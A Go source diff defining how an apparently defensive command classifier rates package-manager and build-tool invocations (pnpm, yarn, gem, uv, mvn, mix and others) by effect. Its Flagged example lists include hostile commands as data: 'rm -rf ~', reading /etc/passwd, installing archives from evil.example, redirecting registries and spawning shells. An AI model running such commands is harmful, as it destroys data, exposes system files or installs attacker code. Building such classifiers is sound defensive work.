@@ -1,0 +1,198 @@
+package programs
+
+// Package managers and build tools beyond npm, pip, cargo, go and make
+// (toolchains.go). Installing, building, testing and running scripts run
+// the project's own code (RunsProject): package.json and composer.json
+// scripts, a Gemfile, build.gradle, pom.xml, mix.exs and Package.swift are
+// code, and installing a package runs its build scripts. Subcommands that
+// run a command named on the command line (exec, dlx, run CMD, tool run)
+// or open a REPL or an editor are Exec; those that change global state
+// (global installs, configuration, PATH set-up) are Config; those that only
+// ask the registry are Network. Only listings of what is installed, help
+// and version are read-only, and only where the tool evaluates no project
+// code to produce them. An unknown subcommand is, for the tools that run a
+// script of that name (pnpm build, yarn lint, composer test, mix deploy),
+// the project's code.
+
+var _ = family("packages", func(add func(...*Spec)) {
+	does := func(e Effect, opts string) *Spec {
+		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h " + opts}
+	}
+	runsCmd := func(opts string) *Spec {
+		// The first operand is the command; options stop there.
+		return &Spec{Effect: Exec, Loose: true, Operands: "x*", Options: "-h:h --help:h " + opts}
+	}
+	lists := func(opts string) *Spec {
+		return &Spec{Permute: true, Operands: "-*", Options: "-h:h --help:h " + opts}
+	}
+
+	pnpmList := lists("--depth= --json --long --parseable -P --prod -D --dev --no-optional -g --global -r --recursive --filter= -F= --only-projects --exclude-peers --lockfile-only -w --workspace-root")
+	pnpm := subs(
+		"install", does(RunsProject, ""), "i", does(RunsProject, ""), "add", does(RunsProject, ""), "update", does(RunsProject, ""), "up", does(RunsProject, ""),
+		"remove", does(RunsProject, ""), "rm", does(RunsProject, ""), "uninstall", does(RunsProject, ""), "un", does(RunsProject, ""), "link", does(RunsProject, ""),
+		"ln", does(RunsProject, ""), "unlink", does(RunsProject, ""), "import", does(RunsProject, ""), "rebuild", does(RunsProject, ""), "rb", does(RunsProject, ""),
+		"prune", does(RunsProject, ""), "fetch", does(RunsProject, ""), "install-test", does(RunsProject, ""), "it", does(RunsProject, ""), "dedupe", does(RunsProject, ""),
+		"patch", does(RunsProject, ""), "patch-commit", does(RunsProject, ""), "pack", does(RunsProject, ""), "deploy", does(RunsProject, ""),
+		"run", does(RunsProject, ""), "run-script", does(RunsProject, ""), "test", does(RunsProject, ""), "t", does(RunsProject, ""), "start", does(RunsProject, ""),
+		"restart", does(RunsProject, ""), "create", does(Exec, ""), "init", does(Write, ""),
+		"exec", runsCmd("-r --recursive --parallel -c --shell-mode --filter= -F="), "dlx", runsCmd("--package= -c --shell-mode"),
+		"ls", pnpmList, "list", pnpmList, "ll", pnpmList, "la", pnpmList, "why", pnpmList, "root", lists("-g --global"), "bin", lists("-g --global"), "help", lists(""),
+		"outdated", does(Network, ""), "audit", does(Network, ""), "view", does(Network, ""), "info", does(Network, ""), "show", does(Network, ""), "licenses", does(Network, ""),
+		"publish", does(Network, ""), "login", does(Config, ""), "logout", does(Config, ""), "config", does(Config, ""), "set", does(Config, ""), "setup", does(Config, ""),
+		"env", does(Config, ""), "store", does(Delete, ""), "cache", does(Delete, ""),
+	)
+	yarnList := lists("--depth= --pattern= --json --recursive -R --all -A --production --dev")
+	yarn := subs(
+		"install", does(RunsProject, ""), "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "upgrade", does(RunsProject, ""), "up", does(RunsProject, ""),
+		"upgrade-interactive", does(RunsProject, ""), "import", does(RunsProject, ""), "link", does(RunsProject, ""), "unlink", does(RunsProject, ""), "dedupe", does(RunsProject, ""),
+		"rebuild", does(RunsProject, ""), "autoclean", does(RunsProject, ""), "pack", does(RunsProject, ""), "check", does(RunsProject, ""),
+		"run", does(RunsProject, ""), "test", does(RunsProject, ""), "start", does(RunsProject, ""), "workspace", does(RunsProject, ""), "workspaces", does(RunsProject, ""),
+		"create", does(Exec, ""), "init", does(Write, ""), "node", runsCmd(""), "exec", runsCmd(""), "dlx", runsCmd("-p= --package= -q --quiet"),
+		"list", yarnList, "ls", yarnList, "why", yarnList, "bin", lists(""), "versions", lists(""), "help", lists(""),
+		"info", does(Network, ""), "npm", does(Network, ""), "outdated", does(Network, ""), "audit", does(Network, ""), "licenses", does(Network, ""),
+		"publish", does(Network, ""), "version", does(Write, ""), "tag", does(Network, ""), "team", does(Network, ""), "owner", does(Network, ""),
+		"login", does(Config, ""), "logout", does(Config, ""), "config", does(Config, ""), "global", does(Config, ""), "policies", does(Config, ""), "set", does(Config, ""),
+		"plugin", does(Config, ""), "cache", does(Delete, ""),
+	)
+	add(
+		&Spec{Names: n("pnpm"), Effect: RunsProject, OtherSubcommand: RunsProject, Subcommands: pnpm,
+			Options: "-v:h --version:h -h:h --help:h -C= --dir= -w --workspace-root -F= --filter= -r --recursive --silent -s --reporter= --color --no-color --aggregate-output " +
+				"--stream --parallel --workspace-concurrency= --loglevel= --use-stderr --ignore-workspace --include-workspace-root --fail-if-no-match",
+			ReadOnly: []string{"pnpm --version", "pnpm ls --depth 0", "pnpm why react", "pnpm -r list --json"},
+			Flagged: []string{"pnpm install", "pnpm build", "pnpm exec sh -c id", "pnpm dlx create-vite", "pnpm config set registry https://evil.example", "pnpm outdated",
+				"pnpm --dir /tmp/evil run x", "pnpm publish"}},
+		&Spec{Names: n("yarn", "yarnpkg"), Effect: RunsProject, OtherSubcommand: RunsProject, Subcommands: yarn,
+			Options: "-v:h --version:h -h:h --help:h --cwd= --silent -s --verbose --offline --prefer-offline --frozen-lockfile --immutable --json --no-progress --network-timeout= " +
+				"--mutex= --registry=n --ignore-scripts --non-interactive --no-default-rc --use-yarnrc=u --cache-folder= --modules-folder= --production --prod",
+			ReadOnly: []string{"yarn --version", "yarn list --depth=0", "yarn why lodash", "yarn help"},
+			Flagged: []string{"yarn", "yarn install", "yarn exec /bin/sh", "yarn --cwd . xxx", "yarn lint", "yarn dlx cowsay", "yarn node -e 'require(\"child_process\").execSync(\"id\")'",
+				"yarn global add evil", "yarn config set registry https://evil.example", "yarn --use-yarnrc /tmp/yarnrc install"}},
+		&Spec{Names: n("gem"), OtherSubcommand: Unknown,
+			Options: "-v:h --version:h -h:h --help:h -C=",
+			Subcommands: subs(
+				// -g/--file name a gem dependencies file: Ruby code.
+				"install", does(RunsProject, "-g=l --file=l"), "i", does(RunsProject, "-g=l --file=l"), "update", does(RunsProject, ""), "pristine", does(RunsProject, ""),
+				"build", does(RunsProject, ""), "rdoc", does(RunsProject, ""), "cert", does(Config, ""), "sources", does(Config, ""), "signin", does(Config, ""), "signout", does(Config, ""),
+				"uninstall", does(Delete, ""), "cleanup", does(Delete, ""), "exec", runsCmd(""), "open", does(Exec, "-e=x --editor=x"), "server", does(Network, ""),
+				"search", does(Network, ""), "outdated", does(Network, ""), "fetch", does(Network, ""), "push", does(Network, ""), "yank", does(Network, ""), "owner", does(Network, ""),
+				"list", lists("-d --details -l --local -r --remote -b --both -a --all -e --exact -i --installed -v= --version= --prerelease --no-prerelease"),
+				"query", lists("-d --details -l --local -n= --name-matches= -i --installed"), "contents", lists("-l --lib-only -a --all -s= --spec-dir= --prefix --no-prefix"),
+				"environment", lists(""), "env", lists(""), "which", lists("-a --all -g --gems-first"), "info", lists("-i --installed -v= --version="), "help", lists(""),
+				"specification", lists("-v= --version= --all --ruby --yaml --marshal -l --local"), "spec", lists("-v= --version= --all --ruby --yaml --marshal -l --local"),
+				"dependency", lists("-v= --version= -R --reverse-dependencies -p --pipe -l --local")),
+			ReadOnly: []string{"gem --version", "gem list", "gem env", "gem which rake", "gem contents rake"},
+			Flagged:  []string{"gem open -e '/bin/sh -s' debug", "gem open rake", "gem build /tmp/evil.gemspec", "gem install --file /tmp/evil.rb", "gem install rails", "gem exec evil", "gem frobnicate"}},
+		&Spec{Names: n("bundle", "bundler"), Effect: RunsProject, OtherSubcommand: Unknown,
+			// Every command evaluates the Gemfile, which is Ruby.
+			Options: "-v:h --version:h -h:h --help:h -V --verbose --no-color -r= --retry=",
+			Subcommands: subs("exec", runsCmd("--keep-file-descriptors --gemfile="), "console", does(Exec, ""), "open", does(Exec, ""), "help", does(Unknown, ""),
+				"install", does(RunsProject, ""), "update", does(RunsProject, ""), "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "lock", does(RunsProject, ""),
+				"cache", does(RunsProject, ""), "package", does(RunsProject, ""), "binstubs", does(RunsProject, ""), "check", does(RunsProject, ""), "list", does(RunsProject, ""),
+				"show", does(RunsProject, ""), "info", does(RunsProject, ""), "outdated", does(RunsProject, ""), "pristine", does(RunsProject, ""), "doctor", does(RunsProject, ""),
+				"licenses", does(RunsProject, ""), "platform", does(RunsProject, ""), "viz", does(RunsProject, ""), "clean", does(Delete, ""), "config", does(Config, ""),
+				"plugin", does(Config, ""), "init", does(Write, ""), "gem", does(Write, ""), "version", lists("")),
+			ReadOnly: []string{"bundle --version", "bundle version"},
+			Flagged:  []string{"bundle exec /bin/sh", "bundle exec rake", "bundle install", "bundle console", "bundle help", "bundle list", "bundle config set path /tmp"}},
+		&Spec{Names: n("composer"), Effect: RunsProject, OtherSubcommand: RunsProject,
+			// Scripts run on install and update, plugins on nearly every
+			// command, and any unknown name may be a script.
+			Options: "-V:h --version:h -h:h --help:h -q --quiet -v -vv -vvv --verbose -n --no-interaction --profile --no-plugins --no-scripts -d= --working-dir= --no-cache --ansi --no-ansi",
+			Subcommands: subs("exec", runsCmd("-l --list"), "run-script", does(RunsProject, ""), "run", does(RunsProject, ""), "global", does(Config, ""), "config", does(Config, ""),
+				"self-update", does(Config, ""), "selfupdate", does(Config, ""), "browse", does(Exec, ""), "home", does(Exec, ""), "search", does(Network, ""),
+				"outdated", does(Network, ""), "audit", does(Network, ""), "diagnose", does(Network, ""), "clear-cache", does(Delete, ""), "clearcache", does(Delete, ""), "cc", does(Delete, "")),
+			ReadOnly: []string{"composer --version", "composer -V"},
+			Flagged:  []string{"composer run-script x", "composer install", "composer exec sh", "composer test", "composer global require evil/pkg", "composer show"}},
+		&Spec{Names: n("pipx"), OtherSubcommand: Unknown,
+			Options: "--version:h -h:h --help:h -v --verbose -q --quiet --global",
+			Subcommands: subs("run", runsCmd("--spec= --no-cache --pypackages --python= --system-site-packages --index-url=n -i=n --pip-args= --editable -e --fetch-missing-python --path"),
+				"install", does(Config, ""), "install-all", does(Config, ""), "inject", does(Config, ""), "upgrade", does(Config, ""), "upgrade-all", does(Config, ""),
+				"upgrade-shared", does(Config, ""), "reinstall", does(Config, ""), "reinstall-all", does(Config, ""), "ensurepath", does(Config, ""), "runpip", does(Config, ""),
+				"pin", does(Config, ""), "unpin", does(Config, ""), "interpreter", does(Config, ""), "uninject", does(Delete, ""), "uninstall", does(Delete, ""), "uninstall-all", does(Delete, ""),
+				"list", lists("--include-injected --json --short --skip-maintenance --pinned"), "environment", lists("--value= -V="), "completions", lists("")),
+			ReadOnly: []string{"pipx --version", "pipx list", "pipx environment"},
+			Flagged:  []string{"pipx run /tmp/evil.py", "pipx run cowsay", "pipx install black", "pipx ensurepath", "pipx frobnicate"}},
+		&Spec{Names: n("uv"), OtherSubcommand: Unknown,
+			Options: "-V:h --version:h -h:h --help:h -q --quiet -v --verbose --color= --native-tls --offline --no-cache -n --cache-dir= --python= -p= --directory= --project= " +
+				"--config-file=u --no-config --no-progress --preview --no-preview --managed-python --no-managed-python --no-python-downloads --allow-insecure-host=n",
+			Subcommands: subs("run", runsCmd("--with= --with-requirements=r --extra= --all-extras --no-dev --group= --only-group= --isolated --frozen --locked --no-sync --package= --script -s --module -m --python= -p= --env-file=r --no-project"),
+				"tool", &Spec{Options: "-h:h --help:h", Subcommands: subs("run", runsCmd("--from= --with= --python= -p="), "install", does(Config, ""), "upgrade", does(Config, ""),
+					"uninstall", does(Delete, ""), "list", lists("--show-paths --show-version-specifiers"), "dir", lists("--bin"), "update-shell", does(Config, ""))},
+				"pip", &Spec{Options: "-h:h --help:h", Subcommands: subs("install", does(RunsProject, ""), "sync", does(RunsProject, ""), "compile", does(Network, ""),
+					"uninstall", does(Delete, ""), "list", lists("--format= --outdated -e --editable --exclude-editable --strict --python= -p= --system"),
+					"show", lists("--files --python= -p= --system"), "freeze", lists("--exclude-editable --python= -p= --system"), "tree", lists("--depth= -d --invert --python= -p="), "check", lists("--python= -p="))},
+				"python", &Spec{Options: "-h:h --help:h", Subcommands: subs("install", does(Config, ""), "uninstall", does(Delete, ""), "pin", does(Write, ""),
+					"list", lists("--only-installed --all-versions --all-platforms"), "find", lists(""), "dir", lists(""))},
+				"sync", does(RunsProject, ""), "lock", does(Network, ""), "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "build", does(RunsProject, ""),
+				"export", does(Network, ""), "tree", does(Network, ""), "venv", does(Write, ""), "init", does(Write, ""), "publish", does(Network, ""), "version", does(Write, ""),
+				"format", does(Write, ""), "cache", does(Delete, ""), "self", does(Config, ""), "help", lists(""), "generate-shell-completion", lists("")),
+			ReadOnly: []string{"uv --version", "uv pip list", "uv pip freeze", "uv tool list"},
+			Flagged:  []string{"uv run /bin/sh", "uv run rm -rf ~", "uv run pytest", "uv tool run ruff", "uv pip install requests", "uv tool install evil", "uv frobnicate"}},
+		&Spec{Names: n("uvx"), Effect: Exec, Loose: true, Operands: "x*", Options: "-h:h --help:h --version:h --from= --with= --python= -p=",
+			ReadOnly: []string{"uvx --version"}, Flagged: []string{"uvx ruff check", "uvx --from evil-pkg x"}},
+		&Spec{Names: n("poetry"), OtherSubcommand: Unknown,
+			Options: "-V:h --version:h -h:h --help:h -q --quiet -v -vv -vvv --verbose -n --no-interaction --ansi --no-ansi --no-plugins --no-cache -C= --directory= -P= --project=",
+			Subcommands: subs("run", runsCmd(""), "shell", does(Exec, ""), "install", does(RunsProject, ""), "update", does(RunsProject, ""), "add", does(RunsProject, ""),
+				"remove", does(RunsProject, ""), "lock", does(Network, ""), "build", does(RunsProject, ""), "sync", does(RunsProject, ""), "check", does(RunsProject, ""),
+				"publish", does(Network, ""), "search", does(Network, ""), "init", does(Write, ""), "new", does(Write, ""), "export", does(Write, ""), "config", does(Config, ""),
+				"source", does(Config, ""), "self", does(Config, ""), "cache", does(Delete, ""), "env", &Spec{Options: "-h:h --help:h", Subcommands: subs("info", lists("-p --path -e --executable"),
+					"list", lists("--full-path"), "use", does(Config, ""), "remove", does(Delete, ""), "activate", lists(""))},
+				"show", lists("--why --with= --without= --only= --no-dev -t --tree -l --latest -o --outdated -a --all --top-level"), "version", &Spec{Permute: true, Operands: "-*", Effect: Write, EffectWithOperands: true, Options: "-h:h --help:h -s --short --dry-run --next-phase"},
+				"about", lists(""), "list", lists(""), "help", lists(""), "debug", lists("")),
+			ReadOnly: []string{"poetry --version", "poetry show --tree", "poetry env info", "poetry version"},
+			Flagged:  []string{"poetry run python /tmp/x.py", "poetry shell", "poetry install", "poetry version patch", "poetry config repositories.x https://evil.example", "poetry frobnicate"}},
+		&Spec{Names: n("gradle", "gradlew"), Effect: RunsProject, Permute: true, Loose: true, Operands: "-*",
+			// The build scripts are code; an init script runs before them.
+			Options:  "-v:h --version:h -h:h --help:h -I=l --init-script=l -b= --build-file= -c= --settings-file= -p= --project-dir= -g= --gradle-user-home= -D= -P= -x= --exclude-task= --console= --scan:n",
+			ReadOnly: []string{"gradle --version", "./gradlew --help"},
+			Flagged:  []string{"gradle build", "./gradlew test", "gradle -I /tmp/evil.gradle help", "gradle tasks"}},
+		&Spec{Names: n("mvn", "mvnw"), Effect: RunsProject, Permute: true, Loose: true, Operands: "-*",
+			// The pom's plugins are code; exec:exec and exec:java run
+			// what -Dexec.executable and -Dexec.mainClass name, which
+			// shell/code.go judges.
+			Options:  "-v:h --version:h -h:h --help:h -f= --file= -s=u --settings=u --global-settings=u -D= -P= -pl= -am -amd -q -B -o -e -X -U -T= -rf=",
+			ReadOnly: []string{"mvn --version", "./mvnw -v"},
+			Flagged:  []string{"mvn package", "mvn exec:exec -Dexec.executable=/bin/sh", "mvn exec:exec -Dexec.executable=curl", "mvn -s /tmp/settings.xml deploy", "./mvnw test"}},
+		&Spec{Names: n("ant"), Effect: RunsProject, LongDash: true, Permute: true, Operands: "-*",
+			Options: "-help:h -h:h -version:h -diagnostics -q -quiet -silent -S -v -verbose -d -debug -e -emacs -lib=l -logfile=w -l=w -logger=l -listener=l -noinput -buildfile= -file= -f= " +
+				"-D= -keep-going -k -propertyfile=r -inputhandler=l -find= -s= -nice= -nouserlib -noclasspath -autoproxy -main=l",
+			ReadOnly: []string{"ant -version"},
+			Flagged:  []string{"ant", "ant build", "ant -lib /tmp/evil.jar", "ant -main Evil"}},
+		&Spec{Names: n("sbt"), Effect: RunsProject, Permute: true, Loose: true, Operands: "-*",
+			// build.sbt is code; console starts a Scala REPL that reads
+			// standard input.
+			Options:         "-h:h --help:h -V:h --version:h --numeric-version:h --script-version:h",
+			Subcommands:     subs("console", does(Exec, ""), "consoleQuick", does(Exec, ""), "consoleProject", does(Exec, "")),
+			OtherSubcommand: RunsProject,
+			ReadOnly:        []string{"sbt --version"},
+			Flagged:         []string{"sbt compile", "sbt test", "sbt console", "sbt 'runMain Evil'"}},
+		&Spec{Names: n("dotnet"), OtherSubcommand: Unknown,
+			// fsi is F# interactive: it reads code from standard input.
+			Options: "--version:h --info:h --list-sdks:h --list-runtimes:h -h:h --help:h -d --diagnostics",
+			Subcommands: subs("build", does(RunsProject, ""), "test", does(RunsProject, ""), "run", does(RunsProject, ""), "restore", does(RunsProject, ""), "publish", does(RunsProject, ""),
+				"pack", does(RunsProject, ""), "clean", does(RunsProject, ""), "watch", does(RunsProject, ""), "msbuild", does(RunsProject, ""), "build-server", does(RunsProject, ""),
+				"format", does(RunsProject, ""), "ef", does(RunsProject, ""), "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "list", does(RunsProject, ""),
+				"store", does(RunsProject, ""), "vstest", does(RunsProject, ""), "fsi", does(Exec, ""), "exec", runsCmd(""),
+				"tool", &Spec{Options: "-h:h --help:h", Subcommands: subs("run", runsCmd(""), "install", does(Config, ""), "update", does(Config, ""), "uninstall", does(Delete, ""),
+					"restore", does(RunsProject, ""), "list", lists("-g --global --local --tool-path="), "search", does(Network, ""))},
+				"new", does(Write, ""), "sln", does(Write, ""), "nuget", does(Network, ""), "dev-certs", does(Config, ""), "workload", does(Config, ""), "sdk", does(Network, ""),
+				"help", lists("")),
+			ReadOnly: []string{"dotnet --version", "dotnet --info", "dotnet --list-sdks", "dotnet tool list -g"},
+			Flagged:  []string{"dotnet fsi", "dotnet run", "dotnet build", "dotnet tool run evil", "dotnet dev-certs https --trust", "dotnet /tmp/evil.dll"}},
+		&Spec{Names: n("swift"), Effect: Exec, OtherSubcommand: Unknown,
+			// swift alone starts the REPL; Package.swift is code.
+			Options: "--version:h -version:h -h:h --help:h",
+			Subcommands: subs("build", does(RunsProject, ""), "test", does(RunsProject, ""), "run", does(RunsProject, ""), "package", does(RunsProject, ""),
+				"repl", does(Exec, ""), "sdk", does(Config, ""), "help", lists("")),
+			ReadOnly: []string{"swift --version"},
+			Flagged:  []string{"swift", "swift repl", "swift build", "swift package resolve", "swift /tmp/evil.swift"}},
+		&Spec{Names: n("mix"), Effect: RunsProject, OtherSubcommand: RunsProject, Lang: "elixir",
+			// mix.exs and every task are code; mix run -e and mix eval
+			// run code given on the command line, mix cmd a command.
+			Options: "-v:h --version:h -h:h --help:h",
+			Subcommands: subs("cmd", runsCmd("--app="), "run", does(RunsProject, "-e=k --eval=k -r=l --require=l"), "eval", &Spec{Lang: "elixir", Operands: "c -*", Loose: true, Effect: RunsProject},
+				"format", does(Write, ""), "clean", does(Delete, ""), "deps.clean", does(Delete, ""), "archive.install", does(Config, ""), "local.hex", does(Config, ""),
+				"local.rebar", does(Config, ""), "escript.install", does(Config, ""), "hex.publish", does(Network, ""), "help", does(RunsProject, "")),
+			ReadOnly: []string{"mix --version"},
+			Flagged:  []string{"mix test", "mix run -e 'System.cmd(\"sh\", [\"-c\", \"id\"])'", "mix eval 'File.read!(\"/etc/passwd\")'", "mix cmd sh -c id", "mix archive.install https://evil.example/x.ez"}},
+	)
+})
